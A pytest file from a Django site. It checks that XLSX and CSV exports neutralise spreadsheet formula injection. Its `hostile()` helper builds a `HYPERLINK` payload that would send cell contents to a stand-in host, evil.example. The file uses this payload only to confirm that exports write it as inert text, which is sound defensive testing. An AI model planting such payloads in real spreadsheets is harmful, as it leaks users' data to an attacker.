"""Every spreadsheet the site writes holds what people typed as text: records whose every text field starts
with «=», «+», «-», «@» or a tab and holds a vertical tab go through the admin's «Выгрузить выбранные в XLSX», the
import templates, the annual report's XLSX and CSV and a partner's report, as the browser downloads them. Each file
is read back (openpyxl, csv): no cell is a formula and no control character is left (a tab and a line break are
text in an XLSX cell; a CSV cell starting with one is neutralised like a formula)."""

import csv
import datetime
import io
import re
from itertools import cycle

import pytest
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from agreements.models import Agreement, Library
from core.models import Status
from events.models import Event
from tests.factories import (
    KEMEROVO,
    AgreementFactory,
    ContactFactory,
    ContestFactory,
    CuratorFactory,
    EntryFactory,
    EpisodeFactory,
    EventFactory,
    ExhibitionFactory,
    ExhibitionStopFactory,
    LibraryFactory,
    ParticipationFactory,
    ProjectFactory,
)
from tests.portal.helpers import partner_user

pytestmark = pytest.mark.django_db

YEAR = 2020
STARTS = ["=", "+", "-", "@", "\t"]
# Control characters other than the tab and the line break, which a cell's text may hold.
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0d\x0e-\x1f\x7f-\x9f]")
# What a spreadsheet opening a CSV runs or reads as a formula (OWASP's list); a plain number («-5») is a number.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"[-+]?\d+([.,]\d+)?%?")
# Fields whose text other code reads as something else (time zones, paths, addresses), and a termination's
# reason, which a constraint keeps empty unless the agreement was terminated.
NOT_FREE_TEXT = (models.SlugField, models.URLField, models.EmailField, models.FileField)
SKIPPED = {"timezone", "password", "username", "termination_reason"}


def hostile(starts, n: int) -> str:
    return f'{next(starts)}HYPERLINK("http://evil.example/?x="&A1)\x0bполе {n}'


def spoil_every_text_field(rows) -> None:
    """Every free-text field of each row (names, titles, descriptions, notes…) starts like a formula and holds a
    vertical tab, written past the forms as a file or an old import could have left it."""
    starts = cycle(STARTS)
    for n, row in enumerate(rows):
        values = {}
        for field in row._meta.concrete_fields:
            free_text = isinstance(field, models.CharField | models.TextField) and not field.choices
            if free_text and not isinstance(field, NOT_FREE_TEXT) and field.name not in SKIPPED:
                values[field.name] = hostile(starts, n)[: field.max_length or 1000]
        type(row)._default_manager.filter(pk=row.pk).update(**values)


def at(month: int, day: int) -> datetime.datetime:
    return datetime.datetime(YEAR, month, day, 12, tzinfo=KEMEROVO)


@pytest.fixture
def world(host):
    partner = LibraryFactory()
    agreement = AgreementFactory(partner=partner, signed_on=datetime.date(2019, 1, 1), valid_until=None)
    rows = [host, partner, agreement, ContactFactory(library=partner)]
    for month in (3, 6):
        event = EventFactory(organiser=partner, starts_at=at(month, 10), status=Status.HELD, participants_count=5)
        rows += [event, ParticipationFactory(event=event, library=host, participants_count=7)]
    exhibition = ExhibitionFactory(provider=partner, status=Status.HELD)
    stop = ExhibitionStopFactory(exhibition=exhibition, venue=host, status=Status.HELD, visitors=10)
    contest = ContestFactory(organiser=partner, status=Status.HELD)
    project = ProjectFactory(organiser=host)
    rows += [exhibition, stop, contest, CuratorFactory(contest=contest, library=partner), project]
    rows += [EntryFactory(contest=contest, result="winner", public_consent=True)]
    rows += [EpisodeFactory(project=project, library=partner, published_on=datetime.date(YEAR, 4, 1))]
    spoil_every_text_field(rows)
    return partner


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_xlsx_safe(content: bytes) -> list[str]:
    cells = xlsx_cells(content)
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if CONTROL.search(t)] == []
    return texts


def assert_csv_safe(content: bytes) -> list[str]:
    fields = [field for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for field in row]
    assert fields
    formulas = [f for f in fields if f.startswith(FORMULA_START) and not NUMBER.fullmatch(f)]
    assert formulas == []
    assert [f for f in fields if CONTROL.search(f)] == []
    return fields


def spoiled(texts: list[str]) -> list[str]:
    """The cells that hold one of the spoiled fields."""
    return [t for t in texts if "evil.example" in t]


def test_the_admin_exports_write_every_spoiled_field_as_text(admin_client, world):
    for model in (Library, Agreement, Event):
        opts = model._meta
        response = admin_client.post(
            reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist"),
            {"action": "export_xlsx", "_selected_action": list(model.objects.values_list("pk", flat=True))},
        )
        assert response.status_code == 200, model
        texts = assert_xlsx_safe(response.content)
        assert spoiled(texts), model
        assert all(t.startswith(tuple(STARTS)) for t in spoiled(texts)), model  # as typed, less the control


def test_the_import_templates_are_safe(admin_client, world):
    for model in (Library, Agreement, Event):
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_import_template")
        assert_xlsx_safe(admin_client.get(url).content)
        assert_csv_safe(admin_client.get(url, {"format": "csv"}).content)


def test_the_annual_report_xlsx_and_csv_write_every_spoiled_field_as_text(admin_client, world):
    xlsx = admin_client.get(reverse("reports:xlsx", args=[YEAR, YEAR]))
    assert xlsx.status_code == 200
    assert spoiled(assert_xlsx_safe(xlsx.content))
    csv_file = admin_client.get(reverse("reports:csv", args=[YEAR, YEAR]))
    assert csv_file.status_code == 200
    fields = spoiled(assert_csv_safe(csv_file.content))
    assert fields
    assert all(f.startswith("'") for f in fields if f.lstrip("'")[:1] in STARTS)


def test_a_partners_report_writes_every_spoiled_field_as_text(client, world):
    client.force_login(partner_user(world))
    response = client.get(reverse("portal:report_download", args=[YEAR, "xlsx"]))
    assert response.status_code == 200
    assert spoiled(assert_xlsx_safe(response.content))
